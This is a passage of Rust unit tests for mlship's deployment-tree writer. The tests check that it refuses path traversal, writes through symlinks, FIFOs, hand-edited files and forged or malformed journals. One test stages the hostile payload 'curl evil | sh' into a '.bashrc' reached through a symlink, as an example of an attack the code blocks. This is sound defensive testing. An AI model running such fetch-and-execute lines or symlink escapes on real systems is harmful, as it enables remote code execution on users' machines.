                        n.clone(),
                        if Some(n.as_str()) == changed {
                            "changed".into()
                        } else {
                            format!("{n} {tag}")
                        },
                    )
                })
                .collect();
            built(&texts.iter().map(|(n, t)| (n.as_str(), t.as_str())).collect::<Vec<_>>())
        };
        let first = build("1", None);
        assert_eq!(write(&out, &first).unwrap().written.len(), 1001);
        assert!(stale(&out, &first).is_empty());
        let second = build("1", Some("envs/e1/f1.yaml"));
        assert_eq!(
            stale(&out, &second),
            vec![
                ("envs/e1/f1.yaml".to_string(), "changed"),
                (LOCK_FILE.to_string(), "changed")
            ]
        );
        let r = write(&out, &second).unwrap();
        assert_eq!(
            (r.written, r.unchanged),
            (vec!["envs/e1/f1.yaml".to_string(), LOCK_FILE.to_string()], 999)
        );
        for (rel, bytes) in &second.files {
            assert_eq!(&fs::read(out.join(rel)).unwrap(), bytes, "{rel}");
        }
    }

    #[test]
    fn check_tells_what_build_would_refuse() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("deploy");
        write(
            &out,
            &built(&[("a.yaml", "1"), ("b.yaml", "1"), ("c/d.yaml", "1"), ("gone.yaml", "1")]),
        )
        .unwrap();
        fs::write(out.join("b.yaml"), "edited").unwrap();
        fs::write(out.join("e.yaml"), "mine").unwrap();
        fs::remove_dir_all(out.join("c")).unwrap();
        std::os::unix::fs::symlink(dir.path(), out.join("c")).unwrap();
        std::os::unix::fs::symlink(dir.path(), out.join("g.yaml")).unwrap();
        fs::create_dir(out.join("f.yaml")).unwrap();
        let next = built(&[
            ("a.yaml", "2"),
            ("b.yaml", "2"),
            ("c/d.yaml", "1"),
            ("e.yaml", "2"),
            ("f.yaml", "2"),
            ("g.yaml", "2"),
        ]);
        let mut found = stale(&out, &next);
        found.sort();
        assert_eq!(
            found,
            [
                ("a.yaml", "changed"),
                ("b.yaml", "edited by hand"),
                ("c/d.yaml", "behind a symlink"),
                ("e.yaml", "not written by mlship"),
                ("f.yaml", "a folder"),
                ("g.yaml", "a symlink"),
                ("gone.yaml", "no longer generated"),
                (LOCK_FILE, "changed"),
            ]
            .map(|(f, w)| (f.to_string(), w))
        );
    }

    #[test]
    fn a_first_build_appears_whole() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("deploy");
        fs::create_dir_all(dir.path().join(".deploy.mlship-new/stale")).unwrap(); // left by a crash
        let r = write(&out, &built(&[("envs/a/x.yaml", "1")])).unwrap();
        assert_eq!(r.written.len(), 2);
        assert_eq!(fs::read_to_string(out.join("envs/a/x.yaml")).unwrap(), "1");
        assert_eq!(fs::read_dir(dir.path()).unwrap().count(), 1, "only deploy/ is left");
    }

    #[test]
    fn refuses_to_overwrite_foreign_files_and_paths_that_escape() {
        let dir = tempfile::tempdir().unwrap();
        fs::write(dir.path().join("a.yaml"), "user").unwrap();
        let e = write(dir.path(), &tree(&[("a.yaml", "ours")])).unwrap_err();
        assert_eq!(
            e.to_string(),
            format!(
                "{} exists and was not written by mlship; move it away or delete it",
                dir.path().join("a.yaml").display()
            )
        );
        assert_eq!(fs::read_to_string(dir.path().join("a.yaml")).unwrap(), "user");
        assert!(write(dir.path(), &tree(&[("../evil", "x")])).is_err());
        assert!(write(dir.path(), &tree(&[(".mlship-staging/x", "x")])).is_err());
        let e = write(dir.path(), &tree(&[("b", "x"), ("b/c", "x")])).unwrap_err();
        assert_eq!(e.to_string(), "refusing to write b: the tree also has files under b/");
    }

    #[test]
    fn a_journal_left_by_a_crash_is_rolled_forward() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path();
        fs::write(out.join("old.yaml"), "old").unwrap();
        write_files(&out.join(STAGING), &out.join(STAGING), [("new.yaml", &b"new"[..])]).unwrap();
        let j = Journal {
            moves: vec!["new.yaml".into()],
            removes: vec!["old.yaml".into()],
            hashes: [("old.yaml".to_string(), sha256(b"old"))].into(),
        };
        fs::write(out.join(JOURNAL), serde_json::to_vec(&j).unwrap()).unwrap();
        drop(lock(out).unwrap());
        assert_eq!(fs::read_to_string(out.join("new.yaml")).unwrap(), "new");
        assert!(!out.join("old.yaml").exists() && !out.join(JOURNAL).exists() && !out.join(STAGING).exists());
    }

    #[test]
    fn an_unreadable_file_is_not_taken_for_mlships() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("deploy");
        write(&out, &built(&[("a.yaml", "1"), ("b.yaml", "1")])).unwrap();
        // The lock lists both, with their hashes; neither can be read.
        let (a, b) = (out.join("a.yaml"), out.join("b.yaml"));
        UNREADABLE.lock().unwrap().extend([a.clone(), b.clone()]);
        let refused = |path: &Path| {
            format!(
                "{} exists and was not written by mlship (it cannot be read: permission denied); move it away or delete it",
                path.display()
            )
        };
        let e = write(&out, &built(&[("a.yaml", "2"), ("b.yaml", "1")])).unwrap_err();
        assert_eq!(e.to_string(), refused(&a), "not overwritten");
        let e = write(&out, &built(&[])).unwrap_err();
        assert_eq!(e.to_string(), refused(&a), "not removed");
        assert_eq!(
            stale(&out, &built(&[("a.yaml", "2"), ("b.yaml", "1")]))[0],
            ("a.yaml".to_string(), "unreadable")
        );
        UNREADABLE.lock().unwrap().retain(|p| *p != a && *p != b);
        assert_eq!(fs::read_to_string(&a).unwrap(), "1");
        // And for real, where this runs as someone a mode-000 file keeps out.
        use std::os::unix::fs::PermissionsExt;
        fs::set_permissions(&a, fs::Permissions::from_mode(0o000)).unwrap();
        if fs::read(&a).is_err() {
            let e = write(&out, &built(&[("a.yaml", "2"), ("b.yaml", "1")])).unwrap_err();
            assert!(
                e.to_string()
                    .starts_with(&format!("{} exists and was not written by mlship", a.display())),
                "{e}"
            );
        }
        fs::set_permissions(&a, fs::Permissions::from_mode(0o644)).unwrap();
        assert_eq!(fs::read_to_string(&a).unwrap(), "1");
    }

    #[test]
    fn create_new_makes_folders_and_never_overwrites() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("app/main.py");
        assert!(create_new(&path, b"first").unwrap());
        assert!(!create_new(&path, b"second").unwrap());
        assert_eq!(fs::read_to_string(&path).unwrap(), "first");
        // A dangling symlink is something there: its target is not created.
        std::os::unix::fs::symlink(dir.path().join("target.txt"), dir.path().join("link.txt")).unwrap();
        assert!(!create_new(&dir.path().join("link.txt"), b"x").unwrap());
        assert!(!dir.path().join("target.txt").exists());
    }

    /// A tree with its lock, as the emitter makes it: every file with its SHA-256.
    fn built(files: &[(&str, &str)]) -> Output {
        let hashes: serde_json::Map<String, serde_json::Value> = files
            .iter()
            .map(|(rel, text)| {
                (
                    (*rel).to_string(),
                    serde_json::json!(crate::names::sha256(text.as_bytes())),
                )
            })
            .collect();
        let lock = serde_json::json!({ "files": hashes }).to_string();
        let mut t = tree(files);
        t.files.insert(LOCK_FILE.into(), lock.into_bytes());
        t
    }

    /// Every file under `dir` with its text, symlinks not followed (shown as `-> target`).
    fn contents(dir: &Path) -> BTreeMap<String, String> {
        let mut found = BTreeMap::new();
        let mut stack = vec![dir.to_path_buf()];
        while let Some(d) = stack.pop() {
            for e in fs::read_dir(&d).unwrap() {
                let e = e.unwrap();
                let rel = e.path().strip_prefix(dir).unwrap().display().to_string();
                let meta = fs::symlink_metadata(e.path()).unwrap();
                if meta.file_type().is_symlink() {
                    found.insert(rel, format!("-> {}", fs::read_link(e.path()).unwrap().display()));
                } else if meta.is_dir() {
                    stack.push(e.path());
                } else {
                    found.insert(rel, fs::read_to_string(e.path()).unwrap_or_default());
                }
            }
        }
        found
    }

    #[test]
    fn a_symlinked_folder_and_an_edited_lock_do_not_reach_outside() {
        let dir = tempfile::tempdir().unwrap();
        let (out, outside) = (dir.path().join("deploy"), dir.path().join("home"));
        fs::create_dir_all(&outside).unwrap();
        fs::write(outside.join("notes.txt"), "mine").unwrap();
        fs::write(outside.join("x.yaml"), "mine too").unwrap();
        write(&out, &built(&[("envs/a/x.yaml", "1")])).unwrap();
        // Committed in a pull request: envs/b is a symlink out of the tree, and the lock lists
        // files "in" it, with their hashes (the attacker can compute them).
        std::os::unix::fs::symlink(&outside, out.join("envs/b")).unwrap();
        let lock = built(&[
            ("envs/a/x.yaml", "1"),
            ("envs/b/notes.txt", "mine"),
            ("envs/b/x.yaml", "mine too"),
        ]);
        fs::write(out.join(LOCK_FILE), &lock.files[LOCK_FILE]).unwrap();
        let before = contents(dir.path());
        // The next build drops notes.txt and rewrites x.yaml: both only through the symlink.
        let e = write(&out, &built(&[("envs/a/x.yaml", "1"), ("envs/b/x.yaml", "evil")])).unwrap_err();
        assert!(
            e.to_string()
                .contains(&format!("{} is a symlink", out.join("envs/b").display())),
            "{e}"
        );
        assert_eq!(contents(dir.path()), before, "nothing changed, inside or out");
        // A symlinked lock is not read or replaced either.
        fs::remove_file(out.join("envs/b")).unwrap();
        fs::write(outside.join("lock.json"), &lock.files[LOCK_FILE]).unwrap();
        fs::remove_file(out.join(LOCK_FILE)).unwrap();
        std::os::unix::fs::symlink(outside.join("lock.json"), out.join(LOCK_FILE)).unwrap();
        let before = contents(dir.path());
        let e = write(&out, &built(&[("envs/a/x.yaml", "2")])).unwrap_err();
        assert!(e.to_string().contains("is a symlink"), "{e}");
        assert_eq!(contents(dir.path()), before);
    }

    #[test]
    fn a_file_edited_by_hand_is_neither_overwritten_nor_removed() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("deploy");
        write(&out, &built(&[("a.yaml", "1"), ("b.yaml", "1")])).unwrap();
        fs::write(out.join("a.yaml"), "edited").unwrap();
        let e = write(&out, &built(&[("a.yaml", "2"), ("b.yaml", "1")])).unwrap_err();
        let a = out.join("a.yaml");
        assert!(
            e.to_string().starts_with(&format!("{} was changed", a.display())),
            "{e}"
        );
        assert_eq!(fs::read_to_string(&a).unwrap(), "edited");
        // Not removed either when the tree no longer has it.
        let e = write(&out, &built(&[("b.yaml", "1")])).unwrap_err();
        assert!(
            e.to_string().starts_with(&format!("{} was changed", a.display())),
            "{e}"
        );
        assert_eq!(fs::read_to_string(&a).unwrap(), "edited");
        // Restored, it is mlship's again; an emptied file holds nothing to lose (a power loss
        // leaves files empty), so it is rewritten.
        fs::write(&a, "1").unwrap();
        fs::write(out.join("b.yaml"), "").unwrap();
        write(&out, &built(&[("a.yaml", "2"), ("b.yaml", "2")])).unwrap();
        assert_eq!(fs::read_to_string(&a).unwrap(), "2");
        assert_eq!(fs::read_to_string(out.join("b.yaml")).unwrap(), "2");
    }

    #[test]
    fn a_folder_where_a_file_goes_leaves_no_half_written_tree() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("deploy");
        write(&out, &built(&[("envs/a/x.yaml", "1")])).unwrap();
        fs::create_dir_all(out.join("envs/a/y.yaml/sub")).unwrap();
        let next = built(&[("envs/a/x.yaml", "2"), ("envs/a/y.yaml", "2")]);
        let e = write(&out, &next).unwrap_err();
        let y = out.join("envs/a/y.yaml");
        assert!(
            e.to_string().starts_with(&format!("{} is a folder", y.display())),
            "{e}"
        );
        assert_eq!(
            fs::read_to_string(out.join("envs/a/x.yaml")).unwrap(),
            "1",
            "nothing written"
        );
        assert!(!out.join(STAGING).exists() && !out.join(JOURNAL).exists());
        // A file where a folder goes, the same.
        fs::remove_dir_all(&y).unwrap();
        fs::write(out.join("envs/b"), "mine").unwrap();
        let e = write(&out, &built(&[("envs/a/x.yaml", "2"), ("envs/b/y.yaml", "2")])).unwrap_err();
        assert!(
            e.to_string()
                .starts_with(&format!("{} is a file", out.join("envs/b").display())),
            "{e}"
        );
        assert_eq!(
            fs::read_to_string(out.join("envs/a/x.yaml")).unwrap(),
            "1",
            "nothing written"
        );
        // Once the folder is gone, the next build is not stuck.
        fs::remove_file(out.join("envs/b")).unwrap();
        write(&out, &next).unwrap();
        assert_eq!(fs::read_to_string(&y).unwrap(), "2");
        // A folder where a file the tree no longer has was is not mlship's: left alone.
        fs::remove_file(&y).unwrap();
        fs::create_dir(&y).unwrap();
        let last = built(&[("envs/a/x.yaml", "2")]);
        write(&out, &last).unwrap();
        assert!(y.is_dir() && stale(&out, &last).is_empty());
    }

    #[test]
    fn the_output_folder_may_be_a_symlink_but_not_the_lock_beside_it() {
        let dir = tempfile::tempdir().unwrap();
        fs::create_dir(dir.path().join("real")).unwrap();
        std::os::unix::fs::symlink("real", dir.path().join("deploy")).unwrap();
        write(&dir.path().join("deploy"), &built(&[("a.yaml", "1")])).unwrap();
        assert_eq!(fs::read_to_string(dir.path().join("real/a.yaml")).unwrap(), "1");
        // The lock beside the folder is a name a pull request can take too.
        let out = dir.path().join("other");
        let lock = dir.path().join(".other.mlship-lock");
        std::os::unix::fs::symlink(dir.path().join("victim"), &lock).unwrap();
        let e = write(&out, &built(&[("a.yaml", "1")])).unwrap_err();
        let canonical = dir.path().canonicalize().unwrap().join(".other.mlship-lock");
        assert_eq!(
            e.to_string(),
            format!(
                "{} is not mlship's lock file (that is an empty file); move it away or delete it",
                canonical.display()
            )
        );
        assert!(!dir.path().join("victim").exists() && !out.exists());
        // Left empty by a killed build, it is taken and removed.
        fs::remove_file(&lock).unwrap();
        fs::write(&lock, "").unwrap();
        write(&out, &built(&[("a.yaml", "1")])).unwrap();
        assert!(!lock.exists());
    }

    #[test]
    fn a_failed_first_build_leaves_nothing_behind_and_names_the_file() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("deploy");
        // A name longer than any file system allows fails part way through the write.
        let long = format!("envs/z/{}.yaml", "n".repeat(300));
        let e = write(&out, &built(&[("envs/a/x.yaml", "1"), (&long, "1")])).unwrap_err();
        assert!(
            e.to_string().starts_with(&format!("{}: ", out.join(&long).display())),
            "{e}"
        );
        assert_eq!(contents(dir.path()), BTreeMap::new(), "nothing left behind");
        // Nor does a later build's staging.
        write(&out, &built(&[("envs/a/x.yaml", "1")])).unwrap();
        let e = write(&out, &built(&[("envs/a/x.yaml", "2"), (&long, "1")])).unwrap_err();
        assert!(
            e.to_string().starts_with(&format!("{}: ", out.join(&long).display())),
            "{e}"
        );
        assert_eq!(fs::read_to_string(out.join("envs/a/x.yaml")).unwrap(), "1");
        assert!(!out.join(STAGING).exists() && !out.join(JOURNAL).exists());
    }

    #[test]
    fn recovery_does_not_move_files_through_a_symlinked_folder() {
        let dir = tempfile::tempdir().unwrap();
        let (out, outside) = (dir.path().join("deploy"), dir.path().join("home"));
        fs::create_dir_all(&outside).unwrap();
        fs::write(outside.join(".bashrc"), "mine").unwrap();
        write(&out, &built(&[("envs/a/x.yaml", "1")])).unwrap();
        // Committed: a journal, a staged file and a symlinked folder.
        std::os::unix::fs::symlink(&outside, out.join("envs/b")).unwrap();
        write_files(
            &out.join(STAGING),
            &out.join(STAGING),
            [("envs/b/.bashrc", &b"curl evil | sh"[..])],
        )
        .unwrap();
        let j = serde_json::json!({ "moves": ["envs/b/.bashrc"], "removes": [], "hashes": {} });
        fs::write(out.join(JOURNAL), j.to_string()).unwrap();
        let e = write(&out, &built(&[("envs/a/x.yaml", "2")])).unwrap_err();
        assert!(
            e.to_string()
                .contains(&format!("{} is a symlink", out.join("envs/b").display())),
            "{e}"
        );
        assert_eq!(fs::read_to_string(outside.join(".bashrc")).unwrap(), "mine");
        // A symlinked staging folder does not move outside files in, nor remove them.
        fs::remove_file(out.join("envs/b")).unwrap();
        remove_any(&out.join(STAGING)).unwrap();
        std::os::unix::fs::symlink(&outside, out.join(STAGING)).unwrap();
        let j = serde_json::json!({ "moves": [".bashrc"], "removes": [], "hashes": {} });
        fs::write(out.join(JOURNAL), j.to_string()).unwrap();
        let e = write(&out, &built(&[("envs/a/x.yaml", "2")])).unwrap_err();
        assert!(
            e.to_string()
                .contains(&format!("{} is a symlink", out.join(STAGING).display())),
            "{e}"
        );
        assert_eq!(fs::read_to_string(outside.join(".bashrc")).unwrap(), "mine");
        assert!(!out.join(".bashrc").exists());
        // A journal that removes a file that is not mlship's is refused too.
        fs::remove_file(out.join(STAGING)).unwrap();
        fs::write(out.join("README.md"), "mine").unwrap();
        let j = serde_json::json!({ "moves": [], "removes": ["README.md"], "hashes": {} });
        fs::write(out.join(JOURNAL), j.to_string()).unwrap();
        let e = write(&out, &built(&[("envs/a/x.yaml", "2")])).unwrap_err();
        assert!(
            e.to_string().contains(&out.join("README.md").display().to_string()),
            "{e}"
        );
        assert_eq!(fs::read_to_string(out.join("README.md")).unwrap(), "mine");
    }

    #[test]
    fn a_fifo_where_mlship_writes_is_refused_without_being_opened() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("deploy");
        write(&out, &built(&[("a.yaml", "1")])).unwrap();
        fs::remove_file(out.join("a.yaml")).unwrap();
        let made = std::process::Command::new("mkfifo")
            .arg(out.join("a.yaml"))
            .status()
            .unwrap();
        assert!(made.success());
        // Opening a fifo blocks until something writes to it: the build runs on a thread.
        let (tx, rx) = std::sync::mpsc::channel();
        let o = out.clone();
        std::thread::spawn(move || tx.send(write(&o, &built(&[("a.yaml", "2")])).map_err(|e| e.to_string())));
        let e = rx
            .recv_timeout(std::time::Duration::from_secs(20))
            .expect("the build opened the fifo")
            .unwrap_err();
        assert!(
            e.contains(&format!("{} is not a regular file", out.join("a.yaml").display())),
            "{e}"
        );
    }

    /// docs/security.md: after a power loss a file may be empty; `check` reports it as stale
    /// and the next build rewrites it.
    #[test]
    fn a_file_emptied_by_a_power_loss_is_stale_and_the_next_build_repairs_it() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("deploy");
        let tree = built(&[("a.yaml", "1"), ("b.yaml", "1")]);
        write(&out, &tree).unwrap();
        fs::write(out.join("a.yaml"), "").unwrap();
        assert_eq!(stale(&out, &tree), [("a.yaml".to_string(), "changed")]);
        write(&out, &tree).unwrap();
        assert_eq!(fs::read_to_string(out.join("a.yaml")).unwrap(), "1");
        assert!(stale(&out, &tree).is_empty());
    }

    /// docs/security.md: a journal that is not one mlship wrote (it does not parse) is dropped
    /// with its staging, and moves nothing.
    #[test]
    fn a_journal_that_does_not_parse_is_dropped_with_its_staging() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path();
        fs::write(out.join("old.yaml"), "old").unwrap();
        write_files(&out.join(STAGING), &out.join(STAGING), [("old.yaml", &b"attacker"[..])]).unwrap();
        fs::write(out.join(JOURNAL), b"{\"moves\": [\"old.yaml\"], this is not JSON").unwrap();
        drop(lock(out).unwrap());
        assert_eq!(fs::read_to_string(out.join("old.yaml")).unwrap(), "old");
        assert!(!out.join(JOURNAL).exists() && !out.join(STAGING).exists());
    }
}
